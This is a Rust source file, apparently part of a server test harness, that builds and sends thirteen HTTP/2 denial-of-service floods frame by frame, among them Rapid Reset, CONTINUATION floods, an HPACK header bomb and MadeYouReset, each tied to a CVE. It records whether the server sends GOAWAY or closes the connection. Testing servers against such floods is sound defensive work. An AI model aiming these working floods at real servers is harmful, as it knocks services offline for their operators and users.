//! Attacks on an HTTP/2 server, frame by frame: what a client library would never send.

use std::{
    io,
    net::SocketAddr,
    sync::atomic::{AtomicU64, Ordering},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{
        TcpSocket,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
};

use super::frames::{
    self, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    WINDOW_UPDATE, frame, literal, request_block, request_headers, settings,
};

/// Frames of one burst, about.
const BURST: u32 = 500;
const SEND_BUFFER_BYTES: u32 = 64 * 1024;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// A flood: each burst is the next part of an endless stream of frames.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// CVE-2023-44487: opens streams and resets them in the same breath.
    RapidReset,
    /// The same with time between, so that each call reaches its handler first.
    SlowReset,
    /// CVE-2024-27316: a header block that never ends.
    Continuation,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// A few bytes of HPACK that unpack to 64 MB.
    HeaderBomb,
    /// Headers over the limit of one list, but not far: each is answered 431.
    LongHeaders,
    WindowUpdate,
    Priority,
    /// Frames of a kind that nobody knows.
    Unknown,
    /// CVE-2019-9518: DATA without data and without end.
    EmptyData,
    /// More streams than the server allows, none of which ends.
    TooManyStreams,
    /// CVE-2025-8671: streams that are fine until a frame makes the server reset them.
    MadeYouReset,
}

impl Flood {
    pub(crate) const ALL: [Self; 13] = [
        Self::RapidReset,
        Self::SlowReset,
        Self::Continuation,
        Self::Ping,
        Self::Settings,
        Self::HeaderBomb,
        Self::LongHeaders,
        Self::WindowUpdate,
        Self::Priority,
        Self::Unknown,
        Self::EmptyData,
        Self::TooManyStreams,
        Self::MadeYouReset,
    ];

    /// Burst number `index` (from 0) and how many frames it has.
    fn burst(self, index: u32) -> (Vec<u8>, u64) {
        let mut bytes = Vec::new();
        let mut count = 0;
        let mut add = |frame: Vec<u8>| {
            bytes.extend(frame);
            count += 1;
        };
        let streams = || (0..BURST / 2).map(|offset| 2 * (index * BURST / 2 + offset) + 1);
        let first = index == 0;
        match self {
            Self::RapidReset => streams().for_each(|stream| {
                add(request_headers(stream));
                add(frame(RST_STREAM, 0, stream, &CANCEL));
            }),
            Self::SlowReset => {
                // The bursts' writes are apart: what one opens, the next resets.
                let before = |stream: u32| stream.checked_sub(BURST);
                streams().filter_map(before).for_each(|stream| {
                    add(frame(RST_STREAM, 0, stream, &CANCEL));
                });
                streams().for_each(|stream| add(request_headers(stream)));
            }
            Self::Continuation => {
                if first {
                    add(frame(HEADERS, 0, 1, &request_block()));
                }
                (0..BURST).for_each(|_| add(frame(CONTINUATION, 0, 1, &literal(0, "a", "b"))));
            }
            Self::Ping => (0..BURST).for_each(|_| add(frame(PING, 0, 0, &[7; 8]))),
            Self::Settings => (0..BURST).for_each(|_| add(settings(&[(4, 65_535)]))),
            Self::HeaderBomb => {
                if first {
                    let mut block = request_block();
                    block.extend(literal(0x40, "bomb", &"x".repeat(4_000)));
                    add(frame(HEADERS, END_HEADERS, 1, &block));
                }
                let mut block = request_block();
                // Index 62 is the newest entry of the dynamic table (RFC 7541, 2.3.3).
                block.resize(16_000, 0x80 | 62);
                add(frame(HEADERS, END_HEADERS, 2 * index + 3, &block));
            }
            Self::LongHeaders => {
                let mut block = request_block();
                (0..5).for_each(|_| block.extend(literal(0, "long", &"x".repeat(3_200))));
                let last = 1; // END_STREAM
                for stream in streams().take(10) {
                    add(frame(HEADERS, END_HEADERS | last, stream, &block));
                }
            }
            Self::WindowUpdate => (0..BURST).for_each(|_| {
                add(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()));
            }),
            Self::Priority => (0..BURST).for_each(|_| add(frame(PRIORITY, 0, 1, &[0; 5]))),
            Self::Unknown => (0..BURST).for_each(|_| add(frame(0xee, 0, 0, &[]))),
            Self::EmptyData => {
                if first {
                    add(request_headers(1));
                }
                (0..BURST).for_each(|_| add(frame(DATA, 0, 1, &[])));
            }
            Self::TooManyStreams => streams().for_each(|stream| add(request_headers(stream))),
            Self::MadeYouReset => streams().for_each(|stream| {
                add(request_headers(stream));
                // A window over 2^31 - 1 is a stream error (RFC 9113, 6.9.1).
                add(frame(WINDOW_UPDATE, 0, stream, &(u32::MAX >> 1).to_be_bytes()));
            }),
        }
        (bytes, count)
    }
}

/// What came of a flood.
#[derive(Debug, Default)]
pub(crate) struct Outcome {
    pub(crate) frames_sent: u64,
    /// Code and debug data.
    pub(crate) goaway: Option<(u32, String)>,
    /// Whether the server ended the connection.
    pub(crate) ended: bool,
}

/// Floods on one connection until the server ends it or `frames_max` are sent; bounded by the
/// caller.
pub(crate) async fn flood(
    address: SocketAddr,
    flood: Flood,
    frames_max: u64,
) -> io::Result<Outcome> {
    flood_counted(address, flood, frames_max, &AtomicU64::new(0)).await
}

/// The same; `sent` counts the frames also when the future is dropped before its end.
pub(crate) async fn flood_counted(
    address: SocketAddr,
    flood: Flood,
    frames_max: u64,
    sent: &AtomicU64,
) -> io::Result<Outcome> {
    let socket = TcpSocket::new_v4()?;
    // What waits in the kernel when the server closes was never an attack.
    socket.set_send_buffer_size(SEND_BUFFER_BYTES)?;
    let (reader, mut writer) = socket.connect(address).await?.into_split();
    // A task of its own, so that the answers never hold up the flood.
    let reading = tokio::spawn(read_to_goaway(reader));
    let (frames_sent, ended) = write(&mut writer, flood, frames_max, sent).await;
    let goaway = if ended {
        reading.await.expect("no panic")
    } else {
        reading.abort();
        None
    };
    Ok(Outcome { frames_sent, goaway, ended })
}

/// How many frames were sent, and whether the server ended the connection.
async fn write(
    writer: &mut OwnedWriteHalf,
    flood: Flood,
    frames_max: u64,
    sent: &AtomicU64,
) -> (u64, bool) {
    let mut frames_sent = 0;
    let opening = [PREFACE, &settings(&[])].concat();
    if writer.write_all(&opening).await.is_err() {
        return (frames_sent, true);
    }
    for index in 0.. {
        if frames_sent >= frames_max {
            break;
        }
        let (bytes, count) = flood.burst(index);
        if writer.write_all(&bytes).await.is_err() {
            return (frames_sent, true);
        }
        frames_sent += count;
        sent.fetch_add(count, Ordering::Relaxed);
        if flood == Flood::SlowReset {
            // Lets the server take up what was opened before the next burst resets it.
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    }
    (frames_sent, false)
}

/// Reads to the end of the connection and remembers its last GOAWAY.
async fn read_to_goaway(mut reader: OwnedReadHalf) -> Option<(u32, String)> {
    let mut last = None;
    loop {
        let mut head = [0; 9];
        if reader.read_exact(&mut head).await.is_err() {
            return last;
        }
        let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        if reader.read_exact(&mut payload).await.is_err() {
            return last;
        }
        if head[3] == frames::GOAWAY {
            let code = u32::from_be_bytes(payload[4..8].try_into().expect("four bytes"));
            last = Some((code, String::from_utf8_lossy(&payload[8..]).into_owned()));
        }
    }
}
